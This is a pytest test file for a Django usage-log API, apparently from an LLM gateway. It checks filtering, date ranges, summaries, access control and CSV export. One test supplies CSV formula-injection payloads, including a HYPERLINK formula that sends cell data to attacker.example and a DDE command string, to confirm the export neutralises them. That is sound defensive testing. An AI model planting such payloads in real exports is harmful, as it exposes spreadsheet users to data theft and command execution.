from __future__ import annotations

import csv
import io
from datetime import timedelta
from decimal import Decimal

import pytest
from django.utils import timezone

from chat.models import ApiKey
from usage.models import UsageLog

pytestmark = pytest.mark.django_db


@pytest.fixture
def logs(alice, bob):  # type: ignore[no-untyped-def]
    key = ApiKey.issue("team-a")[0]
    rows = [
        UsageLog(
            request_id="r1",
            api_key=key,
            provider="oa",
            model="gpt-4o",
            route="smart",
            prompt_tokens=10,
            completion_tokens=5,
            total_tokens=15,
            cost_usd=Decimal("0.001"),
            user=alice,
        ),
        UsageLog(
            request_id="r2",
            api_key=key,
            provider="an",
            model="claude",
            route="smart",
            prompt_tokens=20,
            completion_tokens=10,
            total_tokens=30,
            cost_usd=Decimal("0.002"),
            user=bob,
        ),
        UsageLog(
            request_id="r3",
            provider="oa",
            model="gpt-4o",
            prompt_tokens=1,
            completion_tokens=1,
            total_tokens=2,
            status="error",
            error_code="upstream_error",
        ),
    ]
    UsageLog.objects.bulk_create(rows)
    old = UsageLog.objects.get(request_id="r3")
    old.created_at = timezone.now() - timedelta(days=3)
    old.save()
    return rows


def test_list_is_paginated(api, logs) -> None:  # type: ignore[no-untyped-def]
    body = api.get("/api/usage?limit=2").json()
    assert body["count"] == 3
    assert len(body["items"]) == 2
    assert api.get("/api/usage?limit=2&offset=2").json()["items"][0]["request_id"] == "r3"


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("provider=oa", {"r1", "r3"}),
        ("model=claude", {"r2"}),
        ("route=smart", {"r1", "r2"}),
        ("key=team-a", {"r1", "r2"}),
        ("status=error", {"r3"}),
    ],
)
def test_filters_take_names(api, logs, query, expected) -> None:  # type: ignore[no-untyped-def]
    items = api.get(f"/api/usage?{query}").json()["items"]
    assert {item["request_id"] for item in items} == expected


def test_since_and_until_take_dates_and_datetimes(api, logs) -> None:  # type: ignore[no-untyped-def]
    today = timezone.now().date()
    recent = api.get(f"/api/usage?since={today.isoformat()}").json()
    assert {i["request_id"] for i in recent["items"]} == {"r1", "r2"}
    earlier = (timezone.now() - timedelta(days=1)).isoformat()
    old = api.get("/api/usage", {"until": earlier}).json()
    assert {i["request_id"] for i in old["items"]} == {"r3"}


def test_a_bad_date_is_a_4xx_naming_the_field(api, logs) -> None:  # type: ignore[no-untyped-def]
    response = api.get("/api/usage?since=last-tuesday")
    assert 400 <= response.status_code < 500
    assert "since" in response.json()["detail"]


def test_limit_is_bounded(api) -> None:  # type: ignore[no-untyped-def]
    assert api.get("/api/usage?limit=501").status_code == 422


def test_summary_totals_and_groups(api, logs) -> None:  # type: ignore[no-untyped-def]
    body = api.get("/api/usage/summary?group_by=provider").json()
    total = body["total"]
    assert total["requests"] == 3
    assert total["prompt_tokens"] == 31
    assert total["total_tokens"] == 47
    assert total["cost_usd"] == pytest.approx(0.003)
    groups = {group["key"]: group for group in body["groups"]}
    assert groups["oa"]["requests"] == 2
    assert groups["an"]["completion_tokens"] == 10


@pytest.mark.parametrize("group_by", ["day", "model", "provider", "route", "key"])
def test_every_grouping_answers(api, logs, group_by) -> None:  # type: ignore[no-untyped-def]
    body = api.get(f"/api/usage/summary?group_by={group_by}").json()
    assert sum(group["requests"] for group in body["groups"]) == 3


def test_an_unknown_grouping_is_a_4xx(api, logs) -> None:  # type: ignore[no-untyped-def]
    response = api.get("/api/usage/summary?group_by=weather")
    assert response.status_code == 400
    assert "group_by" in response.json()["detail"]


def test_users_see_only_their_own_records(client, alice, logs) -> None:  # type: ignore[no-untyped-def]
    client.force_login(alice)
    items = client.get("/api/usage").json()["items"]
    assert [item["request_id"] for item in items] == ["r1"]
    assert client.get("/api/usage/summary").json()["total"]["requests"] == 1


def test_staff_see_everything(client, staff, logs) -> None:  # type: ignore[no-untyped-def]
    client.force_login(staff)
    assert client.get("/api/usage").json()["count"] == 3


def test_anonymous_and_chat_keys_are_refused(client, chat_key, logs) -> None:  # type: ignore[no-untyped-def]
    assert client.get("/api/usage").status_code == 401
    refused = client.get("/api/usage", HTTP_AUTHORIZATION=f"Bearer {chat_key}")
    assert refused.status_code == 403


def test_csv_export(api, logs) -> None:  # type: ignore[no-untyped-def]
    response = api.get("/api/usage?format=csv")
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert {row["request_id"] for row in rows} == {"r1", "r2", "r3"}
    assert "cost_usd" in rows[0]


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://attacker.example/?d="&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_csv_cells_that_start_like_a_formula_are_neutralised(api, hostile) -> None:  # type: ignore[no-untyped-def]
    key = ApiKey.issue(hostile)[0]
    UsageLog.objects.create(
        request_id="evil", api_key=key, model=hostile, route=hostile, provider="p", status="ok"
    )
    rows = list(csv.DictReader(io.StringIO(api.get("/api/usage?format=csv").content.decode())))
    (row,) = rows
    for column in ("model", "route", "key"):
        assert row[column] == "'" + hostile, column
    assert row["prompt_tokens"] == "0" and row["cost_usd"] == "0.0"  # numbers untouched


def test_a_bare_until_date_covers_that_whole_day(api, logs) -> None:  # type: ignore[no-untyped-def]
    today = timezone.now().date().isoformat()
    items = api.get(f"/api/usage?until={today}").json()["items"]
    assert {item["request_id"] for item in items} == {"r1", "r2", "r3"}
